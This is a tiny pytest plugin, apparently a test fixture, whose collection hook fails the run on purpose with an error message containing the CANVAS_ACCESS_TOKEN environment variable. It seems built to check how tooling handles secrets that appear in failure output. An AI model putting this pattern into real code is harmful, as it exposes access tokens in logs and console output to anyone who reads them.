"""A plugin for pytest that ends a run with an error, as a fault in the suite would; its words have a secret in them."""

from __future__ import annotations

import os


def pytest_collection_finish() -> None:
    raise RuntimeError("broken with " + os.environ["CANVAS_ACCESS_TOKEN"])
